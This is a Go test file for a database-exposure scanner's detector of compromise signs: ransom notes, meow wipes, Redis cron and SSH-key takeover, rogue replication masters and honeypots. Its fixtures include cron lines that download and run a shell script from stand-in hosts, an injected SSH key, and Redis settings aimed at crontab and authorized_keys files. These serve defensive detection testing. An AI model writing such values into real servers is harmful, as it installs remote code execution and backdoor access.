package assess

import (
	"net/netip"
	"slices"
	"strings"
	"testing"

	"github.com/gownscan/gown"
	"github.com/gownscan/gown/internal/testbed"
)

func open(store string, dbs ...gown.Database) *gown.Result {
	r := &gown.Result{Store: store, Status: gown.StatusOpen, Target: gown.Target{Host: "203.0.113.5", Addr: netip.MustParseAddr("203.0.113.5"), Port: 27017}}
	r.Inventory = &gown.Inventory{}
	for _, d := range dbs {
		r.Inventory.Add(d)
	}
	return r
}

func db(name string, items uint64) gown.Database {
	return gown.Database{Name: name, Items: items, Bytes: items * 300}
}
func sys(name string) gown.Database {
	return gown.Database{Name: name, Items: 3, Bytes: 4096, System: true}
}

func rec(dbName, coll, key string, kv ...string) gown.Sample {
	s := gown.Sample{Database: dbName, Collection: coll, Key: key}
	for i := 0; i+1 < len(kv); i += 2 {
		s.Fields = append(s.Fields, gown.Field{Path: kv[i], Value: kv[i+1]})
	}
	return s
}

const (
	cronValue = "\n\n*/1 * * * * root curl -fsSL http://198.51.100.9/init.sh | sh\n\n"
	sshValue  = "\n\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC3fGxLZfU6Q2vQeK8fYx0xqvT1yX9nQ7m root@kali\n\n\n"
)

// TestSigns: each case is a result as a prober reports it plus the records
// sampled from it, and the sign kinds a correct analysis finds.
func TestSigns(t *testing.T) {
	redis := func(dbs ...gown.Database) *gown.Result { r := open("redis", dbs...); r.Target.Port = 6379; return r }
	replica := func(master string) *gown.Result {
		r := redis(db("db0", 10))
		r.Facts.Replica = &gown.Replica{Host: master, Port: 8886, Link: "up"}
		return r
	}
	cases := []struct {
		name    string
		r       *gown.Result
		samples []gown.Sample
		want    []string
	}{
		{"mongodb wiped for a note (2017 campaigns)",
			open("mongodb", sys("admin"), sys("config"), sys("local"), db(testbed.RansomName, 1)),
			[]gown.Sample{rec(testbed.RansomName, "README", "1", "content", testbed.RansomMessage)},
			[]string{SignRansomNote, SignWiped}},
		{"elasticsearch note beside data",
			open("elasticsearch", db("read_me", 1), db("customers", 151022), sys(".kibana_1")), nil,
			[]string{SignRansomNote}},
		{"note index names from stores.md",
			open("elasticsearch", db("how_to_recover", 1), db("contact_us_or_your_data_will_be_leaked", 1), db("PLEASE_READ_ME_XYZ", 1), db("WARNING", 1), db("orders", 9)), nil,
			[]string{SignRansomNote, SignRansomNote, SignRansomNote, SignRansomNote}},
		{"backup with how to restore is a note",
			open("mongodb", db("backup_how_to_restore", 1), db("shop", 400)), nil,
			[]string{SignRansomNote}},
		{"backup alone, warnings, restore points and contact_us are not",
			open("mongodb", db("backup", 12), db("backups", 3), db("warnings", 40), db("restore_points", 2), db("contact_us", 5), db("db_backup_2026", 1)), nil,
			nil},
		{"meow wipe",
			open("elasticsearch", db("lbpxafhkqj-meow", 0), db("zkdhsuaeqp-meow", 0), sys(".kibana")), nil,
			[]string{SignWiped, SignMeow}},
		{"records all meow",
			open("mongodb", db("app", 2)),
			[]gown.Sample{rec("app", "users", "1", "name", "meow", "email", "meow"), rec("app", "users", "2", "a", "meow")},
			[]string{SignWiped, SignMeow}},
		{"a cat that says meow is not a wipe",
			open("mongodb", db("pets", 1)), []gown.Sample{rec("pets", "sounds", "1", "animal", "cat", "sound", "meow")}, nil},
		{"redis cron and ssh-key takeover",
			redis(db("db0", 40)),
			[]gown.Sample{rec("db0", "", "backup1", "", cronValue), rec("db0", "", "backup2", "", sshValue), rec("db0", "", "session:1", "", "x")},
			[]string{SignRedisCron, SignRedisSSHKey}},
		{"the test bed's redis corpus: hashes, a note key, a cron key",
			redis(db("db0", 40), db("db2", 5)),
			append(plantedSamples(), rec("db2", "", testbed.RansomName, "string", testbed.RansomMessage),
				rec("db2", "", "backup1", "string", "\n\n*/1 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n\n")),
			[]string{SignRansomNote, SignRedisCron}},
		{"cron lines outside redis are a scheduler's data",
			open("mongodb", db("jobs", 1)), []gown.Sample{rec("jobs", "schedules", "1", "cmd", cronValue), rec("jobs", "keys", "2", "k", sshValue)}, nil},
		{"redis wiped but for a note key",
			redis(db("db0", 1)), []gown.Sample{rec("db0", "", "READ_ME", "", testbed.RansomMessage)},
			[]string{SignRansomNote, SignWiped}},
		{"replica of a foreign master", replica("198.51.100.7"), nil, []string{SignForeignMaster}},
		{"replica of a private master", replica("10.0.0.2"), nil, nil},
		{"replica of a neighbour", replica("203.0.113.9"), nil, nil},
		{"replica of a named master", replica("redis-primary.internal"), nil, nil},
		{"redis configured to write a crontab",
			func() *gown.Result {
				r := redis(db("db0", 4))
				r.Facts.Persistence = &gown.Persistence{Dir: "/var/spool/cron/crontabs", File: "root"}
				return r
			}(), nil, []string{SignRedisCron}},
		{"redis configured to write authorized_keys",
			func() *gown.Result {
				r := redis(db("db0", 4))
				r.Facts.Persistence = &gown.Persistence{Dir: "/root/.ssh", File: "authorized_keys"}
				return r
			}(), nil, []string{SignRedisSSHKey}},
		{"redis writing its usual dump",
			func() *gown.Result {
				r := redis(db("db0", 4))
				r.Facts.Persistence = &gown.Persistence{Dir: "/var/lib/redis", File: "dump.rdb"}
				return r
			}(), nil, nil},
		{"replication and config words in details alone are no signs",
			func() *gown.Result {
				r := redis(db("db0", 4))
				for k, v := range map[string]string{"role": "slave", "master_host": "198.51.100.7", "master_port": "8886",
					"config_dir": "/var/spool/cron/crontabs", "config_dbfilename": "root"} {
					r.Detail(k, v)
				}
				return r
			}(), nil, nil},
		{"note by text without a bitcoin address",
			open("mongodb", db("shop", 500)),
			[]gown.Sample{rec("shop", "notice", "1", "msg", "Your database was downloaded and backed up on our servers. To recover it, pay 0.05 BTC within 48 hours and write to recover@mail.example.test")},
			[]string{SignRansomNote}},
		{"support ticket asking to restore a backup",
			open("mongodb", db("support", 500)),
			[]gown.Sample{rec("support", "tickets", "1", "body", "I cannot restore my backup after the update, please email me at hanna@post.example.test")}, nil},
		{"wallet user with a bitcoin address",
			open("mongodb", db("wallet", 500)),
			[]gown.Sample{rec("wallet", "users", "1", "btc_address", "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh", "email", "a@mail.example.test", "backup_done", "true")}, nil},
		{"sizes below counts",
			open("mongodb", gown.Database{Name: "users", Items: 90000, Bytes: 2048}), nil, []string{SignHoneypot}},
		{"identical counts everywhere",
			open("mongodb", gown.Database{Name: "a", Items: 1000, Bytes: 65536}, gown.Database{Name: "b", Items: 1000, Bytes: 65536}, gown.Database{Name: "c", Items: 1000, Bytes: 65536}), nil,
			[]string{SignHoneypot}},
		{"elasticpot banner",
			func() *gown.Result {
				r := open("elasticsearch", gown.Database{Name: "ews", Items: 15, Bytes: 17203}, gown.Database{Name: "dummy", Items: 0, Bytes: 795})
				r.Version = "1.4.1"
				return r
			}(), nil, []string{SignHoneypot}},
		{"canned mysql greeting",
			&gown.Result{Store: "mysql", Version: "5.7.00", Status: gown.StatusUnknown}, nil, []string{SignHoneypot}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			signs := Signs(c.r, c.samples)
			var got []string
			for _, s := range signs {
				got = append(got, s.Kind)
				if s.Detail == "" {
					t.Errorf("%s sign without detail", s.Kind)
				}
			}
			want := append([]string(nil), c.want...)
			slices.Sort(got)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("signs %v, want %v: %+v", got, want, signs)
			}
		})
	}
}

// TestRansomDetail: the note's sign names the bitcoin address (attacker
// infrastructure, useful to responders) and masks the contact address.
func TestRansomDetail(t *testing.T) {
	r := open("mongodb", db(testbed.RansomName, 1))
	signs := Signs(r, []gown.Sample{rec(testbed.RansomName, "README", "1", "content", testbed.RansomMessage)})
	i := slices.IndexFunc(signs, func(s gown.Sign) bool { return s.Kind == SignRansomNote })
	if i < 0 {
		t.Fatalf("no ransom note in %+v", signs)
	}
	d := signs[i].Detail
	for _, want := range []string{testbed.RansomBTC, "contact e-mail d***@o***.test", "read me", "recover"} {
		if !strings.Contains(d, want) {
			t.Errorf("detail %q lacks %q", d, want)
		}
	}
	if strings.Contains(d, testbed.RansomContact) || signs[i].Where != testbed.RansomName {
		t.Errorf("sign %+v: contact unmasked or wrong place", signs[i])
	}
}

// TestSignsOnNegativeCorpus: realistic app data gives no sign, whatever
// the store.
func TestSignsOnNegativeCorpus(t *testing.T) {
	cases := loadCorpus(t, "negative.jsonl")
	for _, store := range []string{"mongodb", "redis", "elasticsearch"} {
		r := open(store)
		var samples []gown.Sample
		seen := map[string]bool{}
		for _, c := range cases {
			samples = append(samples, c.sample)
			if !seen[c.DB] {
				seen[c.DB] = true
				r.Inventory.Add(db(c.DB, uint64(100+len(seen))))
			}
		}
		if s := Signs(r, samples); len(s) > 0 {
			t.Errorf("%s: signs on the negative corpus: %+v", store, s)
		}
	}
}

func TestMultiStore(t *testing.T) {
	res := func(ip, store string, port int, st gown.Status) *gown.Result {
		return &gown.Result{Store: store, Status: st, Target: gown.Target{Host: ip, Addr: netip.MustParseAddr(ip), Port: port}}
	}
	results := []*gown.Result{
		res("192.0.2.1", "redis", 6379, gown.StatusOpen), res("192.0.2.1", "mysql", 3306, gown.StatusOpen),
		res("192.0.2.1", "postgres", 5432, gown.StatusAuthRequired), res("192.0.2.1", "elasticsearch", 9200, gown.StatusOpen),
		res("192.0.2.2", "redis", 6379, gown.StatusOpen), res("192.0.2.2", "mysql", 3306, gown.StatusOpen),
		res("192.0.2.2", "redis", 6380, gown.StatusOpen), res("192.0.2.2", "", 9300, gown.StatusUnknown),
		res("192.0.2.3", "redis", 6379, gown.StatusOpen), res("192.0.2.3", "mongodb", 27017, gown.StatusNotService),
		res("192.0.2.3", "mysql", 3306, gown.StatusClosed),
		res("127.0.0.1", "redis", 6379, gown.StatusOpen), res("127.0.0.1", "mysql", 3306, gown.StatusOpen),
		res("127.0.0.1", "postgres", 5432, gown.StatusOpen), res("127.0.0.1", "memcached", 11211, gown.StatusOpen),
	}
	hs := HoneypotAcrossResults(results)
	if len(hs) != 1 || hs[0].Addr != "192.0.2.1" || len(hs[0].Stores) != 4 || hs[0].Sign.Kind != SignHoneypot {
		t.Fatalf("HoneypotAcrossResults = %+v, want one sign for 192.0.2.1 (4 stores)", hs)
	}
	var m MultiStore
	for _, r := range results {
		m.Add(r)
	}
	fs := m.Findings()
	if len(fs) != 1 || fs[0].Rule != RuleHoneypot || fs[0].Severity != gown.SeverityInfo || fs[0].Target.Host != "192.0.2.1" {
		t.Errorf("Findings = %+v", fs)
	}
}

// TestForeignMasterDetail: the sign names the master as the replica's fact
// gives it, with the link state, and falls back to Redis's port when the
// replica gave no number.
func TestForeignMasterDetail(t *testing.T) {
	for _, c := range []struct {
		rep  gown.Replica
		want string
	}{
		{gown.Replica{Host: "198.51.100.7", Port: 8886, Link: "up"}, "replica of 198.51.100.7:8886 (role:slave): a master on another network controls this server's data, as in the rogue-master attack that loads a module; link up"},
		{gown.Replica{Host: "198.51.100.7"}, "replica of 198.51.100.7:6379 (role:slave): a master on another network controls this server's data, as in the rogue-master attack that loads a module"},
	} {
		r := open("redis", db("db0", 1))
		r.Target.Port = 6379
		r.Facts.Replica = &c.rep
		signs := Signs(r, nil)
		if len(signs) != 1 || signs[0].Kind != SignForeignMaster || signs[0].Detail != c.want || signs[0].Where != "replication" {
			t.Errorf("replica %+v: signs %+v, want one foreign-master saying %q", c.rep, signs, c.want)
		}
	}
}
